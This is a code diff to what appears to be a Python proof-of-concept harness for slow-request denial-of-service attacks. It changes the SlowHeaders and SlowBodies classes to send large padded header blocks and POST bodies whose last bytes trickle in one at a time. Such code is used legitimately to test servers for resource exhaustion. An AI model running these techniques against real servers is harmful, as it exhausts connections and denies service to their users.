@@ -198,9 +198,10 @@ class SlowReaders(NeverReaders):
 
 
 class SlowHeaders(Attack):
-    """header blocks that come a byte at a time"""
+    """header blocks of 15,000 bytes whose end comes a byte at a time"""
 
-    least_s, share, user_bytes, first, drop = 12, 10, 32768, b"GET /", b"x"
+    least_s, share, user_bytes = 12, 10, 32768
+    first = request("GET", "/", X_Slow="a" * 15000)[:-4]
 
     async def begin(self):
         for _ in range(self.count):
@@ -210,7 +211,7 @@ class SlowHeaders(Attack):
         await super().go_on()
         for end in self.ends:
             with contextlib.suppress(OSError):
-                end.send(self.drop)
+                end.send(b"a")
 
     async def proof(self):
         async for row in super().proof():
@@ -221,10 +222,10 @@ class SlowHeaders(Attack):
 
 
 class SlowBodies(SlowHeaders):
-    """bodies that come a byte at a time"""
+    """bodies of 60,000 bytes whose end comes a byte at a time"""
 
     user_bytes = 131072
-    first = request("POST", f"/api/queue/join?sessionId={LINE}", Content_Length=60000)
+    first = request("POST", f"/api/queue/join?sessionId={LINE}", b"a" * 59000, Content_Length=60000)
 
 
 class RequestResets(Attack):
